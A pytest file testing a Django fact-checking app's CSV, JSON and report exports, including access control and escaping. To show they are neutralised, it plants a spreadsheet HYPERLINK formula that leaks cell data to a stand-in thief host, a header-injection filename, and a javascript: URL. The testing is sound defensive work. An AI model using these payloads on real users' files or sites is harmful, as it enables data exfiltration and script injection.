"""What can be taken away of an article: a report to print, CSV for spreadsheets, JSON for programs."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from claims.checking import pipeline
from claims.checking.engines.local import LocalEngine
from claims.checking.results import as_json
from claims.models import Article, Check, CheckDetails, CheckState, Claim, Evidence, EvidenceMark, Person
from claims.publishing.exports import BYTE_ORDER_MARK, COLUMNS, harmless
from claims.search import library_retriever
from claims.services.core_values import article_text
from claims.services.flags import flag_by_hand
from claims.services.review import dismiss, mark_evidence
from tests.cast import Cast, checked, decided, proposed, refuted_claim, stored, supported_claim
from tests.web.conftest import SignedIn

STATIC = Path(__file__).resolve().parents[2] / "static"


@pytest.fixture
def own_copy(cast: Cast) -> Article:
    stored()
    return checked(cast.sam, kind="own")


def taken(client: Any, name: str, article: Article) -> tuple[StreamingHttpResponse, str]:
    answer = client.get(reverse(name, args=[article.pk]))
    assert answer.status_code == 200
    return answer, b"".join(answer.streaming_content).decode("utf-8")


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def report_of(client: Any, article: Article) -> str:
    page: str = client.get(reverse("report", args=[article.pk])).content.decode()
    return page


# CSV


def test_the_csv_has_a_row_a_claim(cast: Cast, claim: Claim, signed_in: SignedIn) -> None:
    decided(cast.rita, cast.eva, claim)
    answer, text = taken(signed_in(cast.sam), "export_csv", claim.article)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert text.count("\r\n") >= len(rows_of(text)) + 1
    rows = rows_of(text)
    assert tuple(rows[0]) == COLUMNS
    assert [row["restatement"] for row in rows] == [
        one.restatement for one in claim.article.claims.filter(hidden=False)
    ]
    row = next(row for row in rows if row["restatement"] == claim.restatement)
    assert claim.article.body[int(row["start"]) : int(row["end"])] == row["sentence"] == claim.sentence
    assert (row["kind"], row["label"], row["check"], row["state"]) == ("date", "refuted", "done", "decided")
    assert (row["verdict_rating"], row["verdict_label"]) == ("Faux", "refuted")
    assert row["explanation"] == "Nora Feld left in May 2022, not in May 2021."
    assert row["evidence"].startswith(
        "refutes: Harbour Wire, Feld leaves Calderon, 2022-06-01, https://wire."
    )
    assert (
        "“Nora Feld left Calderon in May 2022, the company said.” [date: 2021-05 / 2022-05]"
        in row["evidence"]
    )


def test_what_made_a_suggestion_is_in_the_desks_csv_only(
    cast: Cast, claim: Claim, signed_in: SignedIn
) -> None:
    details = CheckDetails.objects.filter(check_run_id=claim.suggested_by_id)
    details.update(money="0.25", fell_back="=The server is gone.")
    Check.objects.filter(pk=claim.suggested_by_id).update(engine="hybrid")

    def making(person: Person) -> tuple[str, str, str]:
        rows = rows_of(taken(signed_in(person), "export_csv", claim.article)[1])
        row = next(row for row in rows if row["restatement"] == claim.restatement)
        return row["engine"], row["fell_back"], row["cost"]

    assert making(cast.rita) == making(cast.eva) == ("local", "'=The server is gone.", "0.25")
    assert making(cast.sam) == ("", "", "")
    details.update(fell_back="")
    assert making(cast.rita)[:2] == ("local and a language model", "")
    exported = json.loads(taken(signed_in(cast.rita), "export_json", claim.article)[1])
    assert "cost" not in json.dumps(exported)  # the form that the terminal prints is fixed


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(cast: Cast, article: Article, signed_in: SignedIn, start: str) -> None:
    attack = f'{start}HYPERLINK("https://thief.example.org/?"&A1,"a")'
    claim = refuted_claim(article)
    Claim.objects.filter(pk=claim.pk).update(restatement=attack)
    _, text = taken(signed_in(cast.sam), "export_csv", article)
    row = next(row for row in rows_of(text) if "HYPERLINK" in row["restatement"])
    assert row["restatement"] == f"'{attack}"
    assert all(not cell.startswith(start) for one in rows_of(text) for cell in one.values())


@pytest.mark.parametrize("cell", ["Nora = Feld", "a-b", "5", "'=", ""])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_quotes_commas_and_lines_come_back_as_they_were(
    cast: Cast, article: Article, signed_in: SignedIn
) -> None:
    told = 'Elle a dit : "non, jamais",\nà Calderon; voilà.'
    Claim.objects.filter(pk=refuted_claim(article).pk).update(restatement=told)
    _, text = taken(signed_in(cast.sam), "export_csv", article)
    assert told in [row["restatement"] for row in rows_of(text)]
    assert '"Elle a dit : ""non, jamais"",\nà Calderon; voilà."' in text


@pytest.mark.parametrize("name", ["export_csv", "export_json"])
def test_the_file_is_saved_under_a_plain_name(
    cast: Cast, article: Article, signed_in: SignedIn, name: str
) -> None:
    Article.objects.filter(pk=article.pk).update(title='Où ?"; filename=x.exe\r\nSet-Cookie: a=b ../é北')
    answer, _ = taken(signed_in(cast.sam), name, article)
    ending = name.removeprefix("export_")
    assert (
        answer["Content-Disposition"]
        == f'attachment; filename="article-{article.pk}-ou-filenamexexe-set-cookie-ab-e.{ending}"'
    )
    assert "no-store" in answer["Cache-Control"]
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_a_failed_check_never_looks_like_a_label(cast: Cast, article: Article, signed_in: SignedIn) -> None:
    claim = refuted_claim(article)
    Claim.objects.filter(pk=claim.pk).update(suggested_by=None)
    Check.objects.create(
        claim=claim, engine="local", as_of=article.date, state=CheckState.FAILED, failure="No key."
    )
    client = signed_in(cast.sam)
    row = next(
        row
        for row in rows_of(taken(client, "export_csv", article)[1])
        if row["restatement"] == claim.restatement
    )
    assert (row["label"], row["confidence"], row["check"]) == ("", "", "failed")
    told = json.loads(taken(client, "export_json", article)[1])["claims"]
    one = next(one for one in told if one["claim"] == claim.restatement)
    assert (one["suggestion"], one["evidence"], one["check"]) == (None, [], "failed")


# JSON


def test_the_json_is_what_the_terminal_prints_with_what_people_made_of_it(
    cast: Cast, claim: Claim, signed_in: SignedIn
) -> None:
    decided(cast.rita, cast.eva, claim)
    article = claim.article
    printed = as_json(
        pipeline.check_article(article_text(article), engine=LocalEngine(), retriever=library_retriever())
    )
    answer, text = taken(signed_in(cast.sam), "export_json", article)
    assert answer["Content-Type"] == "application/json"
    exported = json.loads(text)
    assert exported["article"] == printed["article"]
    assert exported["engine"] == printed["engine"]
    more = ("number", "state", "check", "verdict")
    assert [{key: one[key] for key in one if key not in more} for one in exported["claims"]] == printed[
        "claims"
    ]
    assert [one["number"] for one in exported["claims"]] == list(range(1, len(exported["claims"]) + 1))
    one = next(one for one in exported["claims"] if one["claim"] == claim.restatement)
    assert (one["state"], one["check"]) == ("decided", "done")
    verdict = one["verdict"]
    assert (verdict["rating"], verdict["label"]) == ("Faux", "refuted")
    assert verdict["evidence"][0]["quote"] == "Nora Feld left Calderon in May 2022, the company said."
    assert [other["verdict"] for other in exported["claims"] if other is not one] == [None] * (
        len(exported["claims"]) - 1
    )


def test_an_article_without_claims_gives_empty_files(cast: Cast, signed_in: SignedIn) -> None:
    article = checked(cast.sam, body="La mer est belle.")
    assert not article.claims.exists()
    client = signed_in(cast.sam)
    assert rows_of(taken(client, "export_csv", article)[1]) == []
    assert json.loads(taken(client, "export_json", article)[1])["claims"] == []
    assert "No checkable claims were found" in report_of(client, article)


# What must not be told


@pytest.mark.parametrize("name", ["export_csv", "export_json", "report"])
def test_a_submitter_takes_away_their_own_and_no_word_of_the_desk(
    cast: Cast, claim: Claim, signed_in: SignedIn, name: str
) -> None:
    article = claim.article
    other = supported_claim(article)
    flag_by_hand(cast.rita, other, version=other.version, comment="internal-remark")
    proposed(cast.rita, claim)
    address = reverse(name, args=[article.pk])
    answer = signed_in(cast.sam).get(address)
    told = b"".join(answer).decode()
    assert claim.restatement in told
    for word in ("internal-remark", "flagged by a person", "Nora Feld left in May 2022, not", "Faux", "Rita"):
        assert word not in told, word
    assert signed_in(cast.stan).get(address).status_code == 403


@pytest.mark.parametrize("name", ["export_csv", "export_json", "report"])
def test_what_was_struck_is_evidence_no_more(
    cast: Cast, claim: Claim, signed_in: SignedIn, name: str
) -> None:
    quote = "Nora Feld left Calderon in May 2022, the company said."
    client, address = signed_in(cast.rita), reverse(name, args=[claim.article_id])
    assert quote in b"".join(client.get(address)).decode()
    item = Evidence.objects.get(check_run=claim.suggested_by, quote=quote)
    mark_evidence(cast.rita, item, EvidenceMark.Action.STRUCK)
    assert quote not in b"".join(client.get(address)).decode()


# The report


def test_the_report_is_there_for_articles_of_others_too(
    cast: Cast, claim: Claim, signed_in: SignedIn
) -> None:
    decided(cast.rita, cast.eva, claim)
    page = report_of(signed_in(cast.sam), claim.article)
    for said in (
        claim.article.title, "La Vigie", "1 March 2023", claim.restatement, "Faux", "decided by Eva",
        "Nora Feld left in May 2022, not in May 2021.", "Harbour Wire", "https://wire.example.org/",
        "Calderon est valorisée", "supported", "Ledger", "Calderon is valued at 40 million euros.",
    ):  # fmt: skip
        assert said in page, said
    # Whether to sign off, and what to write instead, is asked of own copy only.
    assert "Not signed off yet" not in page
    assert "Proposed wording" not in page


def test_the_report_on_own_copy_keeps_its_proposed_wordings(
    cast: Cast, own_copy: Article, signed_in: SignedIn
) -> None:
    decided(cast.rita, cast.eva, refuted_claim(own_copy))
    page = report_of(signed_in(cast.sam), own_copy)
    assert "Proposed wording" in page
    assert "Not signed off yet" in page


def test_what_was_dismissed_is_named_in_the_report_and_not_argued(
    cast: Cast, claim: Claim, signed_in: SignedIn
) -> None:
    dismiss(cast.rita, claim, version=claim.version, comment="internal-remark")
    page = report_of(signed_in(cast.sam), claim.article)
    assert claim.restatement in page
    assert "dismissed" in page
    assert "Nora Feld left Calderon in May 2022" not in page
    assert "internal-remark" not in page


def test_an_address_that_is_no_web_address_is_never_a_link(
    cast: Cast, claim: Claim, signed_in: SignedIn
) -> None:
    item = Evidence.objects.filter(check_run=claim.suggested_by)[0]
    type(item.document).objects.filter(pk=item.document_id).update(url="javascript:alert(1)")
    assert "javascript:" not in report_of(signed_in(cast.sam), claim.article)


def test_the_report_is_printed_without_a_script_and_offers_it_with_one(
    cast: Cast, article: Article, signed_in: SignedIn
) -> None:
    page = report_of(signed_in(cast.sam), article)
    assert '<button type="button" data-print hidden>' in page
    assert "print it from your browser" in page
    assert '<p class="print-head"><strong>Second Source</strong>' in page
    assert "window.print()" in (STATIC / "site.js").read_text()
    on_paper = (STATIC / "site.css").read_text().split("@media print {", 1)[1]
    for rule in ("break-inside: avoid", "attr(href)", ".top, .foot"):
        assert rule in on_paper


# How much is asked of the database


def make_checked_claims(article: Article, count: int) -> None:
    """Rows as checks leave them: a suggestion and a piece of evidence each."""
    document = stored(f"A text, {count}.")
    claims = Claim.objects.bulk_create(
        Claim(
            article=article, start=0, end=9, restatement=f"Une autre, {n}.", restatement_key=f"k{n}", kind="rank",
            check_worthiness=0.9,
        )
        for n in range(count)
    )  # fmt: skip
    checks = Check.objects.bulk_create(
        Check(
            claim=claim, engine="local", as_of=date(2023, 3, 1), state=CheckState.DONE, label="supported",
            confidence=0.9,
        )
        for claim in claims
    )  # fmt: skip
    Evidence.objects.bulk_create(
        Evidence(
            check_run=check, document=document, start=0, end=6, quote="A text", stance="supports", rank=1
        )
        for check in checks
    )
    for claim, check in zip(claims, checks, strict=True):
        claim.suggested_by = check
    Claim.objects.bulk_update(claims, ["suggested_by"])


@pytest.mark.parametrize("count", [10, 200])
@pytest.mark.parametrize("name", ["export_csv", "export_json", "report"])
def test_many_claims_ask_as_little_of_the_database_as_few(
    cast: Cast,
    claim: Claim,
    signed_in: SignedIn,
    name: str,
    count: int,
    django_assert_max_num_queries: object,
) -> None:
    decided(cast.rita, cast.eva, claim)
    make_checked_claims(claim.article, count)
    client, address = signed_in(cast.sam), reverse(name, args=[claim.article_id])
    with django_assert_max_num_queries(15):  # type: ignore[operator]  # pytest-django's fixture
        told = b"".join(client.get(address)).decode()
    assert told.count("Une autre, ") == count


def test_a_long_article_comes_in_pieces_and_whole(
    cast: Cast, article: Article, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("claims.queries.exports.AT_A_TIME", 7)
    make_checked_claims(article, 30)
    answer = signed_in(cast.sam).get(reverse("export_csv", args=[article.pk]))
    assert answer.streaming
    rows = rows_of(b"".join(answer).decode())
    total = article.claims.filter(hidden=False).count()
    assert [row["number"] for row in rows] == [str(number) for number in range(1, total + 1)]
